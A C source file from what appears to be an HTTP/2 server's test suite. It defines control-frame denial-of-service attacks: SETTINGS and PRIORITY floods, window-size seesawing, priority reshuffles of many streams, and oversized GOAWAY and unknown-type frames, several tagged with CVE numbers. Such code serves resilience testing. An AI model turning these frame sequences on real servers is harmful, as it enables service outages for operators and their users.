/*
 * attack/control.c - control frames: SETTINGS, PRIORITY, WINDOW_UPDATE, and types without a meaning
 * for servers.
 */
#include "tests/helpers/attack/attack.h"
#include "tests/helpers/attack/units.h"

/* variant: entries of each frame. */
static bool step_settings_large(struct peer *peer) {
  static const uint8_t entry[6] = {0x7a, 0x7a, 0, 0, 0, 1};
  peer_put_head(peer, 6 * (size_t)peer->options->variant, SETTINGS, 0, 0);
  for (unsigned i = 0; i < peer->options->variant; i++)
    peer_put(peer, entry, 6);
  return true;
}

static void begin_seesaw(struct peer *peer) {
  units_begin_closed(peer);
  for (int i = 0; i < 100; i++)
    peer_put_request(peer, false, "/bytes/1000000", true);
}

static bool step_seesaw(struct peer *peer) {
  peer_put_setting(peer, SETTING_WINDOW, peer->units % 2 ? 0 : WIDE);
  return true;
}

/* SETTINGS with as many entries as allowed, each of which changes every stream's window. */
static bool step_seesaw_large(struct peer *peer) {
  enum { ENTRIES = 32 };
  peer_put_head(peer, 6 * ENTRIES, SETTINGS, 0, 0);
  for (int i = 0; i < ENTRIES; i++) {
    peer_put(peer, "\0\4", 2);
    peer_put_u32(peer, i % 2 ? 0 : WIDE);
  }
  return true;
}

static bool step_tables(struct peer *peer) {
  static const uint32_t sizes[] = {0, 4096, 0xffffffff, 0};
  peer_put_setting(peer, SETTING_TABLE, sizes[peer->units % 4]);
  return true;
}

/* Of as few streams as may be open. variant: bytes of the field. */
static bool step_priority_update(struct peer *peer) {
  peer_put_head(peer, 4 + (size_t)peer->options->variant, PRIORITY_UPDATE, 0, 0);
  peer_put_u32(peer, 1 + 2 * (uint32_t)(peer->units % 100));
  peer_put_zeros(peer, 'u', peer->options->variant);
  return true;
}

static bool step_window_update(struct peer *peer) {
  units_hold_open(peer, false, SLOW_PATH);
  peer_put_number(peer, WINDOW_UPDATE, peer->units % 2, 1);
  return true;
}

static bool step_unknown(struct peer *peer) {
  const unsigned type = 0x11 + (unsigned)(peer->units % 0xef);
  peer_put_head(peer, 8, type, (unsigned)(peer->units / 7) & 0xff, (uint32_t)(peer->units % 3));
  peer_put_zeros(peer, 'x', 8);
  return true;
}

/* ALTSVC and ORIGIN, which only servers send. */
static bool step_extension(struct peer *peer) {
  peer_put_head(peer, 6, peer->units % 2 ? 0xa : 0xc, 0, 0);
  peer_put(peer, "\0\4abcd", 6);
  return true;
}

static bool step_goaway(struct peer *peer) {
  peer_put_head(peer, 8 + 1000, GOAWAY, 0, 0);
  peer_put_u32(peer, (uint32_t)peer->units);
  peer_put_u32(peer, 0);
  peer_put_zeros(peer, 'g', 1000);
  return true;
}

/* Streams that are opened and closed to earn budget: each pays for ten PRIORITY frames, and each
 * of these moves a hundred idle streams below another. */
static bool step_regroup(struct peer *peer) {
  if (peer->in_flight >= 100) return false;
  if (peer->units == 0)
    for (uint32_t id = 100001; id < 100201; id += 2) {
      peer_put_head(peer, 5, PRIORITY, 0, id);
      peer_put_u32(peer, 0);
      peer_put(peer, "\x10", 1);
    }
  peer_put_request(peer, false, "/plaintext", true);
  for (uint32_t i = 0; i < 10; i++) {
    peer_put_head(peer, 5, PRIORITY, 0, 100001 + 2 * (uint32_t)((peer->units * 10 + i) % 100));
    peer_put_u32(peer, 0x80000000u);
    peer_put(peer, "\x10", 1);
  }
  return true;
}

static void begin_earn(struct peer *peer) {
  units_begin_closed(peer);
  for (int i = 0; i < 90; i++)
    peer_put_request(peer, false, "/bytes/100000000", true);
}

/* Empty responses, just enough to earn a SETTINGS that grants each of many downloads a byte; and a PING and a frame of no type. */
static bool step_earn(struct peer *peer) {
  if (peer->in_flight > 94) return false;
  for (int i = 0; i < 13; i++)
    peer_put_request(peer, false, "/bytes/0", true);
  peer_put_setting(peer, SETTING_WINDOW, (uint32_t)peer->units + 1);
  return units_ping(peer) && step_unknown(peer);
}

static const struct attack attacks[] = {
    {"ping", "CVE-2019-9512", units_ping, NULL, false},
    {"settings", "CVE-2019-9515", units_settings, NULL, false},
    {"settings-large", "CVE-2020-11080", step_settings_large, NULL, false},
    {"seesaw", "INITIAL_WINDOW_SIZE up and down", step_seesaw, begin_seesaw, false},
    {"tables", "HEADER_TABLE_SIZE up and down", step_tables, NULL, false},
    {"priority", "CVE-2019-9513", units_priority, NULL, false},
    {"priority-update", "RFC 9218 signals for idle streams", step_priority_update, NULL, false},
    {"window-update", "credit byte by byte", step_window_update, NULL, false},
    {"unknown", "frames of unknown types", step_unknown, NULL, false},
    {"extension", "ALTSVC and ORIGIN", step_extension, NULL, false},
    {"goaway", "GOAWAY with debug data", step_goaway, NULL, false},
    {"seesaw-large", "INITIAL_WINDOW_SIZE, 32 times a frame", step_seesaw_large, begin_seesaw,
     false},
    {"earn", "SETTINGS that requests pay for", step_earn, begin_earn, false},
    {"regroup", "PRIORITY that moves many streams", step_regroup, units_begin_wide, false},
};

const struct attack_list attack_control = ATTACK_LIST(attacks);
